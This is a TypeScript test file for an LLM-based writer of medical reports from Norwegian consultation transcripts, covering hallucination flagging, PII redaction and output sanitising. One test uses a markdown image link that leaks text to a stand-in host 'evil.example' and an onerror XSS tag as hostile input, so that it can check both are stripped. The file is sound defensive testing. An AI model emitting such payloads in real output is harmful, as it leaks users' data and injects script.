import { describe, expect, test } from 'vitest'
import { Refusal } from '#contract/refusal.ts'
import type { LanguageModel } from '#server/ports/language-model.ts'
import type { ReportRequest } from '#server/ports/report-writer.ts'
import { textsInProcess } from '#server/testing/texts-in-process.ts'
import { ModelReport } from './model-report.ts'
import { makeModelWriter } from './model-writer.ts'

const SAID = 'Jeg har hatt vondt i venstre kne i tre uker. Ingen feber. Jeg bruker Paracet 1 g fire ganger daglig.'

type Asked = { instructions: string; material: string }

function modelSaying(answer: unknown): { model: LanguageModel; asked: Asked[] } {
  const asked: Asked[] = []
  const model: LanguageModel = {
    name: 'OpenAi test',
    answer: ({ instructions, material, schema }) => {
      asked.push({ instructions, material })
      return Promise.resolve(schema.parse(answer))
    },
  }
  return { model, asked }
}

const request = (over: Partial<ReportRequest> = {}): ReportRequest => ({
  sources: [{ kind: 'transcription', text: SAID }],
  language: 'nb',
  vertical: 'med',
  doctorType: 'FamilyDoctor',
  descriptor: null,
  generatedAt: '2026-01-01T00:00:00.000Z',
  texts: textsInProcess,
  signal: new AbortController().signal,
  ...over,
})

const section = (type: string, ...paragraphs: string[]) => ({ type, paragraphs })

async function written(...sections: unknown[]) {
  const { model, asked } = modelSaying({ sections })
  return { report: await makeModelWriter(model).write(request()), asked }
}

describe('a report of a language model', () => {
  test('stands in the order of the trade, each section once, with evidence for what was said', async () => {
    const { report } = await written(section('medications', 'Paracet 1 g fire ganger daglig.'), section('complaints', 'Vondt i venstre kne i tre uker.'), section('complaints', 'Ingen feber.'))
    expect(report.sections.map(({ type }) => type)).toEqual(['complaints', 'medications'])
    expect(report.engine).toBe('OpenAi test (report.v3)')
    for (const { blocks } of report.sections) for (const { evidence } of blocks) expect(evidence.length).toBeGreaterThan(0)
    for (const { start, end } of report.sections.flatMap(({ blocks }) => blocks.flatMap(({ evidence }) => evidence))) expect(end <= SAID.length && start < end).toBe(true)
  })

  test.each([
    ['a drug nobody named', 'Tramadol 300 mg daglig.'],
    ['another dose', 'Paracet 4 g fire ganger daglig.'],
    ['a dose nobody said', 'Paracet 2 g fire ganger daglig.'],
    ['the other side', 'Vondt i høyre kne i tre uker.'],
    ['the opposite', 'Har feber.'],
    ['another part of the body', 'Vondt i halsen i tre uker.'],
  ])('LLM-1 marks %s', async (_name, sentence) => {
    const { report } = await written(section('complaints', sentence))
    expect(report.sections[0]?.blocks[0]?.supported).toBe(false)
  })

  test('links, pictures and tags of a model do not reach the report', async () => {
    const { report } = await written(section('summary', '- Vondt i kneet ![x](https://evil.example/?q=kne) [les mer](https://evil.example) <img src=x onerror=alert(1)>'))
    const text = report.sections[0]?.blocks[0]?.text ?? ''
    expect(text).toContain('Vondt i kneet')
    expect(text).not.toMatch(/https?:|<|\]\(/)
  })

  test.each([
    ['no section', [], 'report.empty'],
    ['only empty paragraphs', [section('summary', ' ', '')], 'report.empty'],
    ['control characters', [section('summary', 'kne\u0000smerter')], 'language.invalid_answer'],
  ] as const)('LLM-3 an answer with %s is refused', async (_name, sections, code) => {
    const { model } = modelSaying({ sections: [...sections] })
    await expect(makeModelWriter(model).write(request())).rejects.toThrow(new Refusal(code))
  })

  test('sections beyond the known ones are no answer at all', () => {
    expect(ModelReport.safeParse({ sections: [section('system', 'x')] }).success).toBe(false)
  })

  test('LLM-2 names and numbers never reach the model, and stand in the report', async () => {
    const named = 'Jeg heter Kari Nordmann, telefon 912 34 567. Fødselsnummeret er 01020312345. Kari har hatt vondt i venstre kne i tre uker.'
    const { model, asked } = modelSaying({ sections: [section('complaints', '[navn 1] har hatt vondt i venstre kne i tre uker.')] })
    const report = await makeModelWriter(model).write(request({ sources: [{ kind: 'transcription', text: named }] }))
    const sent = JSON.stringify(asked)
    for (const secret of ['Kari', 'Nordmann', '912 34 567', '01020312345']) expect(sent).not.toContain(secret)
    expect(sent).toContain('venstre kne')
    expect(report.sections[0]?.blocks[0]?.text).toMatch(/^Kari/)
  })

  test('LLM-2 the call holds the texts of this case alone, and instructions hold none of them', async () => {
    const { asked } = await written(section('summary', 'Vondt i venstre kne.'))
    expect(JSON.parse(asked[0]?.material ?? '')).toEqual({ sources: [{ kind: 'transcription', text: SAID }] })
    expect(asked[0]?.instructions).not.toContain('Paracet')
  })
})
